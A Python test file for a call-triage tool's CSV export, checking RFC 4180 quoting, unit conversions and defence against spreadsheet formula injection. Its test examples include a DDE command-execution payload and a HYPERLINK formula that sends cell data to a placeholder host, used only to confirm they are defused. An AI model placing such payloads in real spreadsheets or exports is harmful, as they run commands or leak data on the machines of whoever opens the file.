"""The table of calls is what RFC 4180 calls CSV, and no cell of it is a formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.conversation import shipped_engine
from tests.review.exports import (
    ESCALATED,
    FULL,
    LONG_FULL,
    UNLICENSED,
    as_csv,
    exported,
    spoken,
    told_all,
    with_events,
)
from tests.strategies import FIXED
from triage.dialogue.events import Answered, Noted
from triage.dialogue.words import plain_text
from triage.physics.quantity import UnitSystem
from triage.review.export.csv_table import columns_of, csv_lines, neutral

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""OWASP, "CSV Injection": cells that begin with one of these may be taken for a formula."""

CONTENT = shipped_engine().content


def rows_of(text: str) -> list[dict[str, str]]:
    """Return the rows as a strict reader of RFC 4180 takes them."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def row_of(lines: Any, **options: Any) -> dict[str, str]:
    (row,) = rows_of(as_csv(exported(lines, **options)))
    return row


@given(st.text(max_size=60), st.sampled_from(FORMULA_STARTS))
@settings(FIXED, max_examples=300)
@example("=cmd|' /C calc'!A0", "=")
@example('=HYPERLINK("http://x.invalid?"&A1,"here")', "+")
@example("2+5+cmd|' /C calc'!A0", "-")
def test_nothing_typed_begins_a_formula(typed: str, start: str) -> None:
    for text in (typed, start + typed, f" {start}{typed}", f'"{start}{typed}', f"\x00{start}"):
        cell = neutral(text)
        assert not cell.lstrip().startswith(FORMULA_STARTS)
        assert cell.removeprefix("'") == plain_text(text).removeprefix("'")


@given(st.lists(st.text(max_size=40), min_size=1, max_size=3), st.text(max_size=30))
@settings(FIXED, max_examples=12)
@example(['a","=1+1', "line\r\n=2"], "=1,2;3\t4")
def test_any_note_and_name_stays_in_its_own_cell(notes: list[str], name: str) -> None:
    lines = with_events(told_all(ESCALATED, "n", plain_text(name), "s", "t"),
                        *(("agent", Noted(note)) for note in notes))  # fmt: skip
    text = as_csv(exported(lines, with_personal_data=True))
    header, row = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(header) == len(row) == len(columns_of(CONTENT, UnitSystem.US))
    cells = dict(zip(header, row, strict=True))
    assert cells["agent"] == neutral(name)
    for note in notes:
        assert plain_text(note) in cells["notes"]
    assert not [cell for cell in row if cell.startswith(("=", "+", "@"))]
    assert all(float(cell) for cell in row if cell.startswith("-"))


def test_records_end_in_cr_lf_and_quotes_are_doubled() -> None:
    """RFC 4180, section 2, rules 1, 3, 6 and 7."""
    lines = with_events(spoken(ESCALATED), ("agent", Noted('says "it hums", loudly')))
    text = as_csv(exported(lines, with_personal_data=True))
    assert text.count("\r\n") == 2
    assert text.endswith("\r\n")
    assert text.replace("\r\n", "").count("\n") == 0
    assert '"says ""it hums"", loudly"' in text


def test_a_number_stays_a_number_in_the_unit_its_column_names() -> None:
    """62 psi gauge is 4.27 bar gauge: 1 psi = 6894.757 Pa (NIST SP 811, appendix B)."""
    us, si = row_of(spoken(FULL)), rows_of(
        "".join(csv_lines([exported(spoken(FULL))], CONTENT, UnitSystem.SI))
    )[0]  # fmt: skip
    psig = float(us["freeze_suction_pressure_late [psig]"])
    bar = float(si["freeze_suction_pressure_late [bar]"])
    assert psig == pytest.approx(39.0, abs=0.01)
    assert bar == pytest.approx(psig * 6894.757e-5, abs=0.001)
    fahrenheit = float(us["ambient_air_temperature [°F]"])
    assert float(si["ambient_air_temperature [°C]"]) == pytest.approx(
        (fahrenheit - 32) / 1.8, abs=0.001
    )
    low = float(us["freeze_suction_pressure_late band low [psig]"])
    high = float(us["freeze_suction_pressure_late band high [psig]"])
    assert low < psig < high
    assert us["freeze_suction_pressure_late verdict"] == "within"


def test_a_temperature_below_zero_is_no_text() -> None:
    lines = [
        (at, who, replace(event, value=265.15))
        if isinstance(event, Answered) and event.reading == "condenser_air_temperature"
        else (at, who, event)
        for at, who, event in spoken(LONG_FULL)
    ]
    row = rows_of("".join(csv_lines([exported(lines)], CONTENT, UnitSystem.SI)))[0]
    cold = row["condenser_air_temperature [°C]"]
    assert cold == "-8.0"


def test_columns_are_the_same_for_every_call() -> None:
    calls = [exported(spoken(name)) for name in (FULL, ESCALATED, UNLICENSED)]
    text = "".join(csv_lines(calls, CONTENT, UnitSystem.US))
    rows = rows_of(text)
    assert [row["result"] for row in rows] == ["recommended", "escalated", calls[2].result]
    assert all(None not in row and None not in row.values() for row in rows)
    columns = columns_of(CONTENT, UnitSystem.US)
    assert len(set(columns)) == len(columns)
    assert list(rows[0]) == columns


def test_the_row_tells_what_the_call_concluded_and_what_came_of_it() -> None:
    row = row_of(told_all(FULL, "Note", "Ana", "GL-0042-771", "typed"), with_personal_data=True)
    assert row["conclusion"] == "receiver_vapor_feed_failed"
    assert row["outcome_found"] == "receiver_vapor_feed_failed other_fault"
    assert row["outcome_two_good_cycles"] == "yes"
    assert row["state"] == "ended"
    assert row["serial_number"] == "GL-0042-771"
    assert 0.9 < float(row["likeliest_probability [0 to 1]"]) <= 1.0
    assert "brazing" in row["cautions_acknowledged"].split()


@pytest.mark.parametrize(
    ("units", "column", "cell"),
    [
        (UnitSystem.US, "site_altitude [ft]", "5000.0"),
        (UnitSystem.SI, "site_altitude [m]", "1524.0"),
    ],
)
def test_the_altitude_of_the_site_is_told_as_people_tell_heights(
    units: UnitSystem, column: str, cell: str
) -> None:
    """One foot is 0.3048 m exactly: NIST Special Publication 811, appendix B.9."""
    (at, who, started), *rest = spoken(ESCALATED)
    call = exported([(at, who, replace(started, altitude_m=1524.0)), *rest])  # type: ignore[call-arg]
    (row,) = rows_of("".join(csv_lines([call], CONTENT, units)))
    assert row[column] == cell


def test_an_altitude_said_in_the_call_counts() -> None:
    said = ("agent", Answered("site_altitude", "2000 ft", 609.6))
    assert row_of(with_events(spoken(ESCALATED), said))["site_altitude [ft]"] == "2000.0"
